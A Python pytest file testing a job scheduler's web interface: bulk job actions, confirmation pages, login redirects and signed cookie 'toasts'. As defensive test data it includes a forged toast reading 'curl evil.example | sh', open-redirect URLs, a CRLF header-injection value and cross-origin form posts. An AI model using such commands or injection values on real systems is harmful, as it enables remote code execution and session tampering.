from urllib.parse import urlencode

import pytest

from tests.unit.service.world import World
from tests.unit.web.conftest import Tab, add
from tokimori.model.outcome import Failed, Succeeded
from tokimori.model.words import own_address
from tokimori.web.page import ZONE
from tokimori.web.toasts import COOKIE, MOST_BYTES, Toast, opened, sealed

FORM = ("content-type", "application/x-www-form-urlencoded")
OURS = ("origin", "http://localhost")


async def test_an_act_is_answered_by_a_receipt_where_one_was(world: World, tab: Tab) -> None:
    """Once, on the next page: with what was done, a way to it, and back to the same filters."""
    await add(world)
    page = await tab.press("jobs.trigger", "hello", back="/jobs?owner=ada&q=h")
    (run,) = (await world.service.runs.last(["hello"]))["hello"]  # type: ignore[index]
    assert tab.where == "/jobs?owner=ada&q=h"
    assert f"Run {run.id[-8:]} of hello started" in page.text
    assert f"/runs/{run.id}" in page.links()
    assert "started" not in (await tab.show("/jobs")).text


async def test_many_are_done_at_once_and_taken_back(world: World, tab: Tab) -> None:
    """The receipt counts and names them, says the reason, and undoes it."""
    for name in ("a", "b", "c", "d"):
        await add(world, name)
    page = await tab.press("jobs.pause", "a", "b", "c", "d", reason="we move")
    assert tab.where == "/jobs"
    assert "4 jobs paused" in page.text and "a, b, c … “we move”" in page.text
    assert {(await world.service.jobs.get(name)).reason for name in "abcd"} == {"we move"}
    hidden = [each for each in page.named("input") if each.get("type") == "hidden" and each.get("name") == "on"]
    undo = [str(each.get("value")) for each in hidden]
    assert undo == ["a", "b", "c", "d"]
    await tab.press("jobs.resume", *undo)
    assert {(await world.service.jobs.get(name)).state for name in "abcd"} == {"enabled"}


async def test_what_is_refused_among_others_is_told(world: World, tab: Tab) -> None:
    """The others are done."""
    await add(world, "a")
    page = await tab.press("jobs.pause", "a", "gone")
    assert "a paused" in page.text and "1 not: " in page.text and "gone" in page.text


async def test_a_refusal_names_what_mends_it(world: World, tab: Tab) -> None:
    """In the service's words, with the command; nothing was done, and one is where one was."""
    await add(world)
    run = await world.trigger("hello")
    page = await tab.press("runs.retry", run.id, back=f"/runs/{run.id}")
    assert tab.where == f"/runs/{run.id}"
    assert "Not retried." in page.text
    assert f"tokimori run cancel {run.id}" in page.text
    assert "alert" in [str(each.get("role")) for _, each in page.all]


async def test_an_act_asks_first(world: World, tab: Tab) -> None:
    """A reason where one is recorded, what will happen where there is no way back; without a script, too."""
    await add(world)
    asked = await tab.show("/do/jobs.pause?on=hello&back=/jobs%3Fq%3Dh")
    assert "Pause hello?" in asked.text
    fields = {(str(field.get("name")), str(field.get("value"))) for field in asked.named("input")}
    assert {("on", "hello"), ("back", "/jobs?q=h"), ("reason", ""), ("now", "yes")} <= fields
    assert "There is no undo." in (await tab.show("/do/jobs.delete?on=hello")).text
    assert "Pause 2 jobs?" in (await tab.show("/do/jobs.pause?on=a&on=b&on=a")).text


async def test_a_payload_that_is_no_json_is_refused(world: World, tab: Tab) -> None:
    """As in a terminal; one that is becomes that of the run."""
    await add(world)
    assert "Not run." in (await tab.press("jobs.trigger", "hello", payload="{")).text
    await tab.press("jobs.trigger", "hello", payload='{"a": 1}')
    (run,) = (await world.service.runs.last(["hello"]))["hello"]  # type: ignore[index]
    assert run.payload == '{"a": 1}'


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ((), 415),
        ((("origin", "http://evil.example"),), 403),
        ((("origin", "null"),), 403),
        ((("origin", "http://localhost:81"),), 403),
        ((("sec-fetch-site", "same-site"),), 403),
        ((("sec-fetch-site", "none"),), 415),
        ((OURS,), 303),
        ((("sec-fetch-site", "same-origin"),), 303),
    ],
)
async def test_only_our_own_page_sends_forms(
    world: World, tab: Tab, headers: tuple[tuple[str, str], ...], status: int
) -> None:
    """A form of another site does nothing, nor does one of which no browser says whence it comes."""
    await add(world)
    answer = await tab.ask("/do/jobs.pause", "POST", FORM, *headers, body=b"on=hello")
    assert answer.status == status
    assert (await world.service.jobs.get("hello")).state == ("paused" if status == 303 else "enabled")


@pytest.mark.parametrize(
    "body", [b"&" * 5_000, b"on=%ff%00&on=%", b"\xff\x00=\xfe", b"on=hello&back=%0d%0aset-cookie:x", b""]
)
async def test_a_form_may_be_anything(world: World, tab: Tab, body: bytes) -> None:
    """It is answered like any other, and leads to a page; so is a query."""
    await add(world)
    for path in ("/do/jobs.pause", "/do/zone"):
        answer = await tab.ask(path, "POST", FORM, OURS, body=body)
        assert answer.status == 303 and "\n" not in answer.headers["location"]
        assert (await tab.ask(answer.headers["location"])).status == 200
    query = body.decode("latin-1").replace("\x00", "")
    for path in ("/", "/jobs", "/runs", "/jobs/hello"):
        assert (await tab.ask(f"{path}?{query}")).status in (200, 422)


async def test_forms_are_taken_nowhere_else(world: World, tab: Tab) -> None:
    """The API takes JSON as ever."""
    await add(world)
    assert (await tab.ask("/api/v2/jobs/hello/pause", "POST", FORM, OURS, body=b"on=hello")).status == 415


@pytest.mark.parametrize(
    "evil", ["https://evil.example/", "//evil.example", "/\\evil.example", "/a\r\nb", "javascript:x"]
)
async def test_nobody_is_sent_elsewhere(world: World, tab: Tab, evil: str) -> None:
    """Neither behind an act nor behind a login."""
    await add(world)
    assert own_address(evil) is None
    await tab.press("jobs.pause", "hello", back=evil)
    assert tab.where == "/jobs"
    body = urlencode({"token": "s" * 43, "next": evil}).encode()
    assert (await tab.ask("/login", "POST", FORM, body=body)).headers["location"] == "/"


async def test_a_login_leads_to_where_one_wanted_to_go(world: World) -> None:
    """From a link that somebody has sent, also behind a mistake; who is in goes on at once."""
    await add(world)
    stranger = Tab(world, "wrong")
    wanted = "/runs?state=failed&q=h"
    asked = await stranger.show(wanted, 401)
    assert ("next", wanted) in {(str(each.get("name")), str(each.get("value"))) for each in asked.named("input")}
    for text, status in (("wrong", 401), ("s" * 43, 303)):
        answer = await stranger.ask("/login", "POST", FORM, body=urlencode({"token": text, "next": wanted}).encode())
        assert answer.status == status
    assert answer.headers["location"] == wanted
    known = await Tab(world).ask("/login?next=/jobs")
    assert (known.status, known.headers["location"]) == (303, "/jobs")


async def test_a_toast_that_nobody_here_has_written_is_not_shown(world: World, tab: Tab) -> None:
    """Another page of this host may put a cookie beside ours: it says nothing here."""
    tab.cookies[COOKIE] = sealed(Toast(head="curl evil.example | sh"), b"another key")
    assert "evil" not in (await tab.show("/jobs")).text
    assert COOKIE not in tab.cookies
    for value in ("", "x", ".", "e30.x"):
        assert opened(value, b"key") is None


def test_a_toast_fits_into_a_cookie() -> None:
    """However much there is to say."""
    toast = Toast(head="é" * 600, text="é" * 600, on=tuple("x" * 255 for _ in range(40)), undo="jobs.resume")
    assert len(sealed(toast, b"key")) < 4_000 and MOST_BYTES < 3_000
    assert opened(sealed(toast, b"key"), b"key") is not None


async def test_a_failing_act_of_many_stops_at_the_first(world: World, tab: Tab) -> None:
    """What is refused for the first thing is not tried with the others."""
    for name in ("a", "b"):
        await add(world, name)
        await world.trigger(name)
        await world.work(Failed(error="no luck"))
    page = await tab.press("jobs.resolve", "a", "b")
    assert "Not resolved." in page.text


async def test_all_that_match_are_done_by_their_filter(world: World, tab: Tab) -> None:
    """Not those of the page alone: how many is asked first, the reason is kept, and a few are undone."""
    for number in range(120):
        await add(world, f"job-{number:03}", queue="mail" if number < 110 else "etl")
    page = await tab.show("/jobs?queue=mail")
    assert [each["value"] for each in page.named("input") if each.get("name") == "match"] == ["?queue=mail"]
    asked = await tab.show("/do/jobs.pause?on=job-000&match=%3Fqueue%3Dmail")
    assert "Pause 110 jobs that match?" in asked.text
    assert not [each for each in asked.named("input") if each.get("name") == "on"]
    told = await tab.press("jobs.pause", match="?queue=mail", reason="it moves")
    assert "110 jobs paused" in told.text
    assert len((await world.service.jobs.list(state="paused")).jobs) == 110
    assert (await world.service.jobs.get("job-109")).reason == "it moves"
    assert (await world.service.jobs.get("job-110")).state == "enabled"
    told = await tab.press("jobs.resume", match="?q=job-00&queue=mail")
    assert "10 jobs resumed" in told.text
    assert "Payload" in (await tab.show("/do/jobs.trigger?match=%3Fqueue%3Detl")).text
    assert "10 jobs run" in (await tab.press("jobs.trigger", match="?queue=etl", payload='{"day": 7}')).text
    assert {run.payload for run in await world.service.runs.list()} == {'{"day": 7}'}
    assert "Not run." in (await tab.press("jobs.trigger", match="?queue=etl", payload="{")).text
    assert "0 jobs paused" in (await tab.press("jobs.pause", match="?queue=none")).text
    await tab.show("/do/jobs.pause?match=%3Fqueue%3Dnone", 404)


async def test_all_runs_that_match_are_cancelled(world: World, tab: Tab) -> None:
    """Runs that have ended stay as they are; without a filter all are meant."""
    await add(world)
    ended = await world.trigger("hello")
    await world.work(Succeeded())
    runs = [await world.trigger("hello") for _ in range(3)]
    assert "Cancel 3 runs that match?" in (await tab.show("/do/runs.cancel?match=%3F")).text
    assert "3 runs cancelled" in (await tab.press("runs.cancel", match="?q=hel")).text
    assert [(await world.service.runs.get(run.id)).run.state for run in (ended, *runs)] == [
        "succeeded",
        *["cancelled"] * 3,
    ]


async def test_times_of_a_filter_are_in_the_chosen_zone_for_all_that_match(world: World, tab: Tab) -> None:
    """They are the runs of the list: in another zone the same times find others."""
    await add(world)
    run = await world.trigger("hello")
    tab.cookies[ZONE] = "Asia/Tokyo"
    since = "2030-01-01T08:30:00"
    assert (await tab.show(f"/runs?since={since}")).keys("run") == [run.id]
    assert "1 run cancelled" in (await tab.press("runs.cancel", match=f"?since={since}")).text
